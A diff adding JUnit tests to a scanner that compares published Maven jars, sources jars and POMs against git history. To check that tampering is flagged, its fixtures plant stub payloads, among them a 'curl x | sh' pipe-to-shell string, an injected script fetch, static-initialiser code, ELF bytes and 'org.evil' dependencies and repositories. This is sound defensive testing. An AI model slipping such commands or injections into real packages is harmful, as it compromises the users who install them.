@@ -250,4 +250,402 @@ class MavenScanTest {
                 a.divergentPaths().stream().sorted().toList());
         assertEquals(Verdict.DIVERGENT, a.verdict());
     }
+
+    private static final String OUTER = "package org.acme;\npublic class Outer {\n"
+            + "  private static class Hidden {\n    private Hidden() {}\n  }\n"
+            + "  Object make() {\n    return new Hidden();\n  }\n}\n";
+
+    @Test
+    void theEmptyClassJavacWritesForAPrivateNestedConstructorIsGeneratedAndOneWithContentIsNot() throws Exception {
+        // javac --release 8 writes Outer$1.class (an empty "access constructor tag") for the call to Hidden().
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Outer.java", OUTER), "--release", "8");
+        byte[] tag = classes.get("org/acme/Outer$1.class");
+        assertTrue(tag != null, "javac wrote " + classes.keySet());
+        // The same name with a payload: bytes appended to the class, or a class with code (a static initialiser).
+        byte[] appended = java.util.Arrays.copyOf(tag, tag.length + 12);
+        System.arraycopy(utf8("curl x | sh"), 0, appended, tag.length, 11);
+        Map<String, byte[]> withCode = LocalMaven.javac(Map.of("org/acme/Outer$2.java",
+                "package org.acme;\nclass Outer$2 {\n  static { System.getenv(); }\n}\n"), "--release", "8");
+        Map<String, byte[]> jar = new LinkedHashMap<>(classes);
+        jar.put("org/acme/Outer$2.class", withCode.get("org/acme/Outer$2.class"));
+        jar.put("META-INF/versions/11/org/acme/Outer$1.class", appended);
+        SortedMap<String, byte[]> tree = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version></project>\n",
+                "src/main/java/org/acme/Outer.java", OUTER);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence t = row(a, "org/acme/Outer$1.class");
+        assertEquals(FileStatus.GENERATED, t.status());
+        assertEquals(MavenGeneratedFiles.CLASS_ACCESS_TAG, t.ruleId());
+        assertEquals("src/main/java/org/acme/Outer.java", t.sourcePath().orElseThrow());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, "org/acme/Outer$Hidden.class").ruleId());
+        for (String p : List.of("org/acme/Outer$2.class", "META-INF/versions/11/org/acme/Outer$1.class")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(MavenGeneratedFiles.CLASS_UNDECLARED, f.ruleId(), p);
+        }
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    /** Publishes {@code jarEntries} as the sources jar of VERSION (tagged vVERSION on {@code tree}) and scans it. */
+    private ReleaseReport scanSources(SortedMap<String, byte[]> tree, String version, Map<String, byte[]> jarEntries)
+            throws Exception {
+        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
+            git.commit(tree, "release " + version, Instant.parse("2026-01-01T00:00:00Z"));
+            git.tag("v" + version, true);
+        }
+        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
+            repo.metadata(List.of(version));
+            repo.file(version, ".pom", tree.get("pom.xml"), null);
+            repo.file(version, "-sources.jar", LocalMaven.jar(jarEntries), null);
+            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
+            Release release = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
+            return ScanWorld.scanner(support, dir).scan(release, Optional.of(dir.resolve("repo").toString()));
+        }
+    }
+
+    @Test
+    void resourcesBesideTheJavaFilesAndInSrcMainResourcesAreBothFound() throws Exception {
+        SortedMap<String, byte[]> tree = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>1.0</version></project>\n",
+                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n",
+                "src/main/java/org/acme/Gadget.java", "package org.acme;\npublic class Gadget {}\n",
+                "src/main/java/org/acme/package.html", "<body>Widgets.</body>\n",
+                "src/main/java/org/acme/overview.html", "<body>Overview.</body>\n",
+                "src/main/resources/META-INF/native-image/acme/resource-config.json", "{\"resources\": []}\n",
+                "src/test/resources/org/acme/notes.txt", "fixture\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        for (String p : List.of("org/acme/Widget.java", "org/acme/Gadget.java", "org/acme/package.html")) {
+            jar.put(p, tree.get("src/main/java/" + p));
+        }
+        jar.put("org/acme/overview.html", utf8("<body>Overview.</body><script>fetch('//x')</script>\n"));
+        jar.put("META-INF/native-image/acme/resource-config.json",
+                tree.get("src/main/resources/META-INF/native-image/acme/resource-config.json"));
+        jar.put("org/acme/notes.txt", utf8("not the fixture\n"));
+        ArtifactReport a = artifact(scanSources(tree, "1.0", jar), "-sources.jar");
+        FileDivergence pkg = row(a, "org/acme/package.html");
+        assertEquals(FileStatus.MATCH, pkg.status());
+        assertEquals("src/main/java/org/acme/package.html", pkg.sourcePath().orElseThrow());
+        FileDivergence json = row(a, "META-INF/native-image/acme/resource-config.json");
+        assertEquals(FileStatus.MATCH, json.status());
+        assertEquals("src/main/resources/META-INF/native-image/acme/resource-config.json", json.sourcePath().orElseThrow());
+        // found in its root, compared there: a changed file is MODIFIED, not explained by being found
+        FileDivergence overview = row(a, "org/acme/overview.html");
+        assertEquals(FileStatus.MODIFIED, overview.status());
+        assertEquals("src/main/java/org/acme/overview.html", overview.sourcePath().orElseThrow());
+        // a test fixture's path is not a root the jar packages from
+        FileDivergence notes = row(a, "org/acme/notes.txt");
+        assertEquals(FileStatus.PHANTOM, notes.status());
+        assertTrue(!notes.sourcePath().orElse("").startsWith("src/test/"), notes.sourcePath().toString());
+        assertEquals(List.of("org/acme/notes.txt", "org/acme/overview.html"), a.divergentPaths().stream().sorted().toList());
+        assertTrue(a.files().stream().noneMatch(f -> f.status() == FileStatus.SOURCE_ONLY), "every source file shipped");
+    }
+
+    private static String crlf(byte[] lf) {
+        return new String(lf, StandardCharsets.UTF_8).replace("\n", "\r\n");
+    }
+
+    /**
+     * An old commit holding two stray files the sources jar also ships (byte for byte), then the release commit whose
+     * .java files the jar ships with CRLF line endings (built on Windows), tagged when {@code tag}.
+     */
+    private ReleaseReport scanWindowsSourcesJar(boolean tag, String declared, String payloadLine) throws Exception {
+        SortedMap<String, byte[]> old = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>1.0</version></project>\n",
+                "src/java/org/acme/notes.txt", "stray", "src/java/org/acme/more.txt", "also stray");
+        SortedMap<String, byte[]> release = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>" + declared
+                        + "</version></project>\n",
+                "src/main/java/org/acme/A.java", "package org.acme;\n\npublic class A {\n}\n",
+                "src/main/java/org/acme/B.java", "package org.acme;\n\npublic class B {\n  int b;\n}\n",
+                "src/main/java/org/acme/C.java", "package org.acme;\n\npublic class C {\n  int c;\n}\n",
+                "src/main/java/org/acme/D.java", "package org.acme;\n\npublic class D {\n  int d;\n}\n");
+        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
+            git.commit(old, "1.0", Instant.parse("2025-01-01T00:00:00Z"));
+            git.commit(release, "2.0", Instant.parse("2026-01-01T00:00:00Z"));
+            if (tag) {
+                git.tag("v2.0", true);
+            }
+        }
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        for (String c : List.of("A", "B", "C", "D")) {
+            String text = crlf(release.get("src/main/java/org/acme/" + c + ".java"));
+            jar.put("org/acme/" + c + ".java", utf8(c.equals("D") ? text + payloadLine : text));
+        }
+        jar.put("org/acme/notes.txt", old.get("src/java/org/acme/notes.txt"));
+        jar.put("org/acme/more.txt", old.get("src/java/org/acme/more.txt"));
+        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
+            repo.metadata(List.of("2.0"));
+            repo.file("2.0", "-sources.jar", LocalMaven.jar(jar), null);
+            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
+            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
+            return ScanWorld.scanner(support, dir).scan(r, Optional.of(dir.resolve("repo").toString()));
+        }
+    }
+
+    @Test
+    void aSourcesJarBuiltOnWindowsIsLocatedAtItsTagNotAtACommitHoldingTwoStrayFiles() throws Exception {
+        ReleaseReport r = scanWindowsSourcesJar(true, "2.0", "");
+        assertEquals(RefMethod.TAG, r.ref().method(), r.ref().note().orElse(""));
+        assertTrue(r.ref().note().orElseThrow().contains("kept tag commit"), r.ref().note().orElseThrow());
+        ArtifactReport a = artifact(r, "-sources.jar");
+        for (String c : List.of("A", "B", "C", "D")) {
+            FileDivergence f = row(a, "org/acme/" + c + ".java");
+            assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), c);
+            assertEquals(dev.divergence.compare.Normalizations.LINE_ENDINGS, f.ruleId(), c);
+            assertEquals("src/main/java/org/acme/" + c + ".java", f.sourcePath().orElseThrow());
+        }
+        // the stray files are what they are: content from an older commit, not at the release
+        assertEquals(FileStatus.IN_HISTORY, row(a, "org/acme/notes.txt").status());
+        assertEquals(List.of("org/acme/more.txt", "org/acme/notes.txt"), a.divergentPaths().stream().sorted().toList());
+    }
+
+    @Test
+    void withoutATagAWindowsSourcesJarIsLocatedByItsLineEndingNormalisedFilesAndAPayloadStaysModified() throws Exception {
+        ReleaseReport r = scanWindowsSourcesJar(false, "2.0-SNAPSHOT", "class Evil { static { Runtime.getRuntime(); } }\r\n");
+        assertEquals(RefMethod.BLOB_OVERLAP, r.ref().method());
+        assertTrue(r.ref().note().orElseThrow().contains("overlap scored after line-ending normalisation of 4"),
+                r.ref().note().orElseThrow());
+        assertTrue(r.ref().candidates().get(0).endsWith(":3/7"), r.ref().candidates().toString());
+        ArtifactReport a = artifact(r, "-sources.jar");
+        assertEquals(dev.divergence.compare.Normalizations.LINE_ENDINGS, row(a, "org/acme/A.java").ruleId());
+        FileDivergence d = row(a, "org/acme/D.java");
+        assertEquals(FileStatus.MODIFIED, d.status());
+        assertEquals("src/main/java/org/acme/D.java", d.sourcePath().orElseThrow());
+    }
+
+    @Test
+    void dataTheBuildComputesWithTheProjectsOwnClassIsBuildOutputAndNothingElseIs() throws Exception {
+        // joda-time's POM runs ZoneInfoCompiler at compile time: -dst ${project.build.outputDirectory}/.../tz/data
+        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>\n"
+                + "<build><plugins>\n<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>\n"
+                + "<executions><execution><id>compile-tzdb</id><phase>compile</phase><goals><goal>java</goal></goals>"
+                + "</execution></executions>\n<configuration><mainClass>org.acme.tz.ZoneCompiler</mainClass><arguments>"
+                + "<argument>-src</argument><argument>${project.build.sourceDirectory}/org/acme/tz/src</argument>"
+                + "<argument>-dst</argument><argument>${project.build.outputDirectory}/org/acme/tz/data</argument>"
+                + "</arguments></configuration></plugin>\n"
+                + "<plugin><artifactId>maven-antrun-plugin</artifactId><configuration><tasks>"
+                + "<java classname=\"com.other.Gen\"><arg line=\"-dst ${project.build.outputDirectory}/org/acme/gen\"/></java>"
+                + "</tasks></configuration></plugin>\n</plugins></build></project>\n";
+        SortedMap<String, byte[]> tree = files("pom.xml", pom,
+                "src/main/java/org/acme/tz/ZoneCompiler.java", "package org.acme.tz;\npublic class ZoneCompiler {}\n",
+                "src/main/java/org/acme/tz/src/europe", "Zone Europe/Paris 0:09:21 - LMT 1891\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("org/acme/tz/ZoneCompiler.class", CLASS);
+        jar.put("org/acme/tz/data/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's', 0, 0, 9, 21});
+        jar.put("org/acme/tz/data/ZoneInfoMap", new byte[] {0, 2, 'U', 'T', 'C', 0});
+        jar.put("org/acme/tz/datax/Europe/Paris", new byte[] {0, 1, 'P'});
+        jar.put("org/acme/gen/blob", new byte[] {0, 7});
+        jar.put("org/acme/tz/data/Europe/Berlin", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        for (String p : List.of("org/acme/tz/data/Europe/Paris", "org/acme/tz/data/ZoneInfoMap")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
+            assertEquals(MavenGeneratedFiles.BUILD_GENERATOR_OUTPUT, f.ruleId(), p);
+            assertTrue(!f.highRisk(), p);
+        }
+        // a folder that only starts like it, and one written by a class the repository does not have: unexplained
+        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/tz/datax/Europe/Paris").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/gen/blob").status());
+        // native code in the generator's folder is build output carrying a binary: HIGH_RISK
+        FileDivergence elf = row(a, "org/acme/tz/data/Europe/Berlin");
+        assertEquals(FileStatus.BUILD_OUTPUT, elf.status());
+        assertTrue(elf.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+        assertEquals(3, dev.divergence.compare.Verdicts.unverifiedCount(a.files()) - 1, "2 data files + ELF + the class");
+    }
+
+    @Test
+    void dataAMaven1GoalComputesWithTheProjectsOwnClassIsBuildOutput() throws Exception {
+        // joda-time 1.x: maven.xml's postGoal java:compile runs ZoneInfoCompiler into ${maven.build.dest}
+        SortedMap<String, byte[]> tree = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version></project>\n",
+                "maven.xml", "<project xmlns:ant=\"jelly:ant\">\n  <postGoal name=\"java:compile\">\n"
+                        + "    <ant:java classname=\"org.acme.tz.ZoneCompiler\" fork=\"true\">\n"
+                        + "      <arg line=\"-src ${pom.build.sourceDirectory}/org/acme/tz/src -dst ${maven.build.dest}/org/acme/tz/data\"/>\n"
+                        + "    </ant:java>\n  </postGoal>\n</project>\n",
+                "src/main/java/org/acme/tz/ZoneCompiler.java", "package org.acme.tz;\npublic class ZoneCompiler {}\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("org/acme/tz/data/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's'});
+        jar.put("org/acme/tz/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's'});
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(MavenGeneratedFiles.BUILD_GENERATOR_OUTPUT, row(a, "org/acme/tz/data/Europe/Paris").ruleId());
+        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/tz/Europe/Paris").status());
+    }
+
+    private static final String PROJECT_XML = "<?xml version=\"1.0\"?>\n<project>\n  <pomVersion>3</pomVersion>\n"
+            + "  <id>acme-core</id>\n  <groupId>org.acme</groupId>\n  <currentVersion>1.2</currentVersion>\n"
+            + "  <dependencies>\n    <dependency>\n      <groupId>junit</groupId>\n      <artifactId>junit</artifactId>\n"
+            + "      <version>3.8.1</version>\n      <properties><scope>test</scope></properties>\n    </dependency>\n"
+            + "    <dependency>\n      <groupId>maven-plugins</groupId>\n      <artifactId>maven-cobertura-plugin</artifactId>\n"
+            + "      <version>1.1.1</version>\n      <type>plugin</type>\n    </dependency>\n  </dependencies>\n</project>\n";
+
+    /** What Maven 1's POM conversion writes (commons-io 1.2, commons-cli 1.1, joda-time 1.6 on Central). */
+    private static String generatedPom(String extra) {
+        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><project>\n  <modelVersion>4.0.0</modelVersion>\n"
+                + "  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n  <name>Acme</name>\n"
+                + "  <version>1.2</version>\n  <developers><developer><id>jdoe</id></developer></developers>\n"
+                + "  <dependencies>\n    <dependency>\n      <groupId>junit</groupId>\n      <artifactId>junit</artifactId>\n"
+                + "      <version>3.8.1</version>\n      <scope>test</scope>\n    </dependency>\n" + extra
+                + "  </dependencies>\n  <build><sourceDirectory>src/java</sourceDirectory><plugins>\n"
+                + "    <plugin><artifactId>maven-surefire-plugin</artifactId><configuration><includes>"
+                + "<include>**/*Test*</include></includes></configuration></plugin>\n"
+                + "    <plugin><groupId>maven-plugins</groupId><artifactId>maven-cobertura-plugin</artifactId>"
+                + "<version>1.1.1</version></plugin>\n  </plugins></build>\n"
+                + "  <distributionManagement><status>converted</status></distributionManagement>\n</project>\n";
+    }
+
+    private FileDivergence scanPom(String pom) throws Exception {
+        return scanPom(pom, PROJECT_XML);
+    }
+
+    private FileDivergence scanPom(String pom, String projectXml) throws Exception {
+        SortedMap<String, byte[]> tree = files("project.xml", projectXml,
+                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
+        Path world = java.nio.file.Files.createTempDirectory(dir, "world");
+        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
+            git.commit(tree, "1.2", Instant.parse("2006-01-01T00:00:00Z"));
+            git.tag("v1.2", true);
+        }
+        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
+            repo.metadata(List.of("1.2"));
+            repo.file("1.2", ".pom", utf8(pom), null);
+            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
+            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
+            ReleaseReport report = ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString()));
+            assertEquals(RefMethod.TAG, report.ref().method());
+            return row(artifact(report, ".pom"), "pom.xml");
+        }
+    }
+
+    @Test
+    void thePomGeneratedFromAMaven1ProjectXmlIsGeneratedWhenItsDependenciesAreTheProjectXmls() throws Exception {
+        FileDivergence pom = scanPom(generatedPom(""));
+        assertEquals(FileStatus.GENERATED, pom.status());
+        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
+    }
+
+    @Test
+    void aGeneratedPomMayNarrowAProjectXmlDependencyToTestScopeButNotWidenIt() throws Exception {
+        // commons-io 1.0's project.xml lists junit with no scope; the conversion wrote it with <scope>test</scope>
+        String unscoped = PROJECT_XML.replace("      <properties><scope>test</scope></properties>\n", "");
+        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, scanPom(generatedPom(""), unscoped).ruleId());
+        // the other way round: a test dependency of project.xml published as a compile dependency reaches consumers
+        FileDivergence widened = scanPom(generatedPom("").replace("<scope>test</scope>", "<scope>compile</scope>"));
+        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, widened.ruleId());
+        assertTrue(widened.highRisk());
+        // commons-io 1.1: project.xml comments junit out, the POM has it as a test dependency: visible, not high risk
+        String none = PROJECT_XML.replaceAll("(?s)    <dependency>\\s*<groupId>junit</groupId>.*?</dependency>\n", "");
+        FileDivergence testOnly = scanPom(generatedPom(""), none);
+        assertEquals(FileStatus.PHANTOM, testOnly.status());
+        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, testOnly.ruleId());
+        assertTrue(!testOnly.highRisk());
+    }
+
+    @Test
+    void aGeneratedPomWithADependencyTheProjectXmlLacksIsHighRisk() throws Exception {
+        FileDivergence pom = scanPom(generatedPom("    <dependency>\n      <groupId>org.evil</groupId>\n"
+                + "      <artifactId>payload</artifactId>\n      <version>1.0</version>\n    </dependency>\n"));
+        assertEquals(FileStatus.PHANTOM, pom.status());
+        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId());
+        assertTrue(pom.highRisk());
+        // a changed version of a declared dependency is not the project.xml's either
+        FileDivergence bumped = scanPom(generatedPom("").replace("3.8.1", "4.13"));
+        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, bumped.ruleId());
+    }
+
+    @Test
+    void aGeneratedPomWithRepositoriesOrPluginsIsNotExplained() throws Exception {
+        String withRepo = generatedPom("").replace("  <build>",
+                "  <repositories><repository><id>x</id><url>https://repo.evil.example</url></repository></repositories>\n  <build>");
+        FileDivergence pom = scanPom(withRepo);
+        assertEquals(FileStatus.PHANTOM, pom.status());
+        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, pom.ruleId());
+        String withPlugin = generatedPom("").replace("  </plugins>", "    <plugin><groupId>org.evil</groupId>"
+                + "<artifactId>weaver-maven-plugin</artifactId><version>1.0</version></plugin>\n  </plugins>");
+        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, scanPom(withPlugin).ruleId());
+    }
+
+    @Test
+    void anUntaggedMaven1ReleaseIsFoundWhereProjectXmlDeclaresItsVersion() throws Exception {
+        SortedMap<String, byte[]> beta = files("project.xml", PROJECT_XML.replace("1.2", "1.0-beta-2"),
+                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n",
+                "src/java/org/acme/Factory.java", "package org.acme;\npublic class Factory {}\n");
+        SortedMap<String, byte[]> later = files("project.xml", PROJECT_XML.replace("1.2", "1.0"),
+                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
+        String betaCommit;
+        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
+            betaCommit = git.commit(beta, "1.0-beta-2", Instant.parse("2003-01-01T00:00:00Z"));
+            git.commit(later, "removed Factory", Instant.parse("2003-06-01T00:00:00Z"));
+            git.tag("v1.0", true);
+        }
+        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
+            repo.metadata(List.of("1.0-beta-2"));
+            repo.file("1.0-beta-2", ".jar", LocalMaven.jar(Map.of("org/acme/Widget.class", CLASS,
+                    "org/acme/Factory.class", CLASS)), null);
+            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
+            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
+            ReleaseReport report = ScanWorld.scanner(support, dir).scan(r, Optional.of(dir.resolve("repo").toString()));
+            assertEquals(RefMethod.MANIFEST_HISTORY, report.ref().method());
+            assertEquals(betaCommit, report.ref().commit().orElseThrow());
+            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(artifact(report, ".jar"), "org/acme/Factory.class").ruleId());
+        }
+    }
+
+    private static final String COMMITTED_POM = "<?xml version=\"1.0\"?>\n<!-- licence header -->\n"
+            + "<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
+            + " xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/maven-v4_0_0.xsd\">\n"
+            + "  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n"
+            + "  <version>1.3.2</version>\n  <description>\n      Widgets.\n  </description>\n"
+            + "  <dependencies>\n    <dependency><groupId>a</groupId><artifactId>a</artifactId><version>1</version></dependency>\n"
+            + "    <dependency><groupId>b</groupId><artifactId>b</artifactId><version>2</version></dependency>\n"
+            + "  </dependencies>\n</project>\n";
+    /** What Maven 2.0's deploy wrote: no comment or namespace, fields in model order, text trimmed (commons-io 1.3.2). */
+    private static final String DEPLOYED_POM = "<?xml version=\"1.0\"?><project>\n  <modelVersion>4.0.0</modelVersion>\n"
+            + "  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n  <description>Widgets.</description>\n"
+            + "  <version>1.3.2</version>\n  <dependencies>\n"
+            + "    <dependency><artifactId>a</artifactId><groupId>a</groupId><version>1</version></dependency>\n"
+            + "    <dependency><artifactId>b</artifactId><groupId>b</groupId><version>2</version></dependency>\n"
+            + "  </dependencies>\n</project>\n";
+
+    private FileDivergence scanDeployedPom(String published) throws Exception {
+        Path world = java.nio.file.Files.createTempDirectory(dir, "world");
+        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
+            git.commit(files("pom.xml", COMMITTED_POM), "1.3.2", Instant.parse("2007-01-01T00:00:00Z"));
+            git.tag("v1.3.2", true);
+        }
+        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
+            repo.metadata(List.of("1.3.2"));
+            repo.file("1.3.2", ".pom", utf8(published), null);
+            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
+            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
+            return row(artifact(ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString())),
+                    ".pom"), "pom.xml");
+        }
+    }
+
+    @Test
+    void aPomMaven2RewroteWhenDeployingIsTheSameModelAndAnyChangedValueIsNot() throws Exception {
+        FileDivergence same = scanDeployedPom(DEPLOYED_POM);
+        assertEquals(FileStatus.MATCH_NORMALIZED, same.status());
+        assertEquals(MavenGeneratedFiles.POM_SAME_MODEL, same.ruleId());
+        // the deploying tool's status is not the project's
+        String deployed = DEPLOYED_POM.replace("</project>",
+                "  <distributionManagement><status>deployed</status></distributionManagement>\n</project>");
+        assertEquals(MavenGeneratedFiles.POM_SAME_MODEL, scanDeployedPom(deployed).ruleId());
+        String otherStatus = DEPLOYED_POM.replace("</project>",
+                "  <distributionManagement><status>curl x|sh</status></distributionManagement>\n</project>");
+        assertEquals(FileStatus.MODIFIED, scanDeployedPom(otherStatus).status());
+        String swapped = DEPLOYED_POM.replace("<artifactId>a</artifactId><groupId>a</groupId><version>1</version>", "X")
+                .replace("<artifactId>b</artifactId><groupId>b</groupId><version>2</version>",
+                        "<artifactId>a</artifactId><groupId>a</groupId><version>1</version>")
+                .replace("X", "<artifactId>b</artifactId><groupId>b</groupId><version>2</version>");
+        String added = DEPLOYED_POM.replace("  </dependencies>", "    <dependency><groupId>evil</groupId>"
+                + "<artifactId>payload</artifactId><version>1</version></dependency>\n  </dependencies>");
+        String appended = DEPLOYED_POM.replace("<dependencies>", "<dependencies combine.children=\"append\">");
+        for (String p : List.of(swapped, added, appended, DEPLOYED_POM.replace("<version>2</version>", "<version>3</version>"))) {
+            FileDivergence f = scanDeployedPom(p);
+            assertEquals(FileStatus.MODIFIED, f.status(), p);
+            assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, f.ruleId(), p);
+        }
+    }
 }
